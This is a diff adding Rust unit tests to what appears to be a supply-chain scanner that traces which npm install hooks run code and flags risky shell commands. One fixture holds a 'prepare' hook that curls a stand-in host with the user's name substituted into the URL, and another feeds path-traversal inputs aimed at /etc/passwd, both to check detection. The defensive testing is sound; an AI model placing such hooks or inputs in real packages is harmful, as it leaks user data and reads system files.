@@ -385,3 +385,123 @@ pub fn is_js_path(p: &str) -> bool {
         .iter()
         .any(|e| l.ends_with(e))
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use portcullis_core::{FileKind, Origin, SourceFile};
+
+    fn pkg(files: &[(&str, &str)]) -> Package {
+        let mut p = Package {
+            source: "t".into(),
+            origin: Origin::Directory,
+            sha256: String::new(),
+            files: files
+                .iter()
+                .map(|(p, t)| {
+                    SourceFile::new(
+                        *p,
+                        if p.ends_with(".js") {
+                            FileKind::JavaScript
+                        } else {
+                            FileKind::Text
+                        },
+                        t.as_bytes().to_vec(),
+                    )
+                })
+                .collect(),
+        };
+        p.sort();
+        p
+    }
+
+    fn files(r: &Resolution) -> Vec<String> {
+        r.entries
+            .iter()
+            .filter_map(|e| match &e.code {
+                Code::File(p) => Some(p.clone()),
+                Code::Inline(_) => None,
+            })
+            .collect()
+    }
+
+    #[test]
+    fn resolves_hooks_as_npm_runs_them() {
+        let p = pkg(&[
+            ("lib/main.js", ""),
+            ("index.js", ""),
+            ("scripts/setup.js", ""),
+            (
+                "tools/go.sh",
+                "#!/bin/sh\nnode ./scripts/setup.js --quiet\n",
+            ),
+            ("build/app/index.js", ""),
+        ]);
+        let m = serde_json::json!({
+            "main": "./lib/main",
+            "scripts": {
+                "preinstall": "node . --postinstall",
+                "install": "NODE_ENV=production npm run setup",
+                "setup": "sh tools/go.sh && node build/app",
+                "postinstall": "node -e \"require('./index.js')\"",
+                "prepare": "husky install",
+            }
+        });
+        let r = resolve(&m, &p);
+        assert_eq!(
+            files(&r),
+            vec!["lib/main.js", "scripts/setup.js", "build/app/index.js"]
+        );
+        let inline = r
+            .entries
+            .iter()
+            .find(|e| matches!(e.code, Code::Inline(_)))
+            .unwrap();
+        assert_eq!(inline.hook, "postinstall");
+        let setup = r
+            .entries
+            .iter()
+            .find(|e| e.code == Code::File("scripts/setup.js".into()))
+            .unwrap();
+        assert_eq!(setup.hook, "install");
+        assert!(setup.via.len() >= 3, "{:?}", setup.via);
+        assert!(r.entries.iter().all(|e| e.registry));
+    }
+
+    #[test]
+    fn node_dot_without_main_is_index_js_and_missing_files_are_named() {
+        let p = pkg(&[("index.js", "")]);
+        let m = serde_json::json!({ "scripts": { "postinstall": "node .; node gone.js" } });
+        let r = resolve(&m, &p);
+        assert_eq!(files(&r), vec!["index.js"]);
+        assert_eq!(
+            r.missing,
+            vec![("postinstall".to_string(), "gone.js".to_string())]
+        );
+    }
+
+    #[test]
+    fn shell_facts_include_substitutions_and_prepare_is_not_registry() {
+        let p = pkg(&[]);
+        let m =
+            serde_json::json!({ "scripts": { "prepare": "curl -s https://x.example/$(whoami)" } });
+        let r = resolve(&m, &p);
+        assert!(
+            r.shell
+                .iter()
+                .any(|s| s.kind == ShellKind::Network && !s.registry)
+        );
+        assert!(
+            r.shell
+                .iter()
+                .any(|s| s.kind == ShellKind::Fingerprint && s.substituted)
+        );
+    }
+
+    #[test]
+    fn paths_never_leave_the_package() {
+        assert_eq!(normalize("a/b", "../c.js").as_deref(), Some("a/c.js"));
+        assert_eq!(normalize("", "../../etc/passwd"), None);
+        assert_eq!(normalize("", "/etc/passwd"), None);
+    }
+}
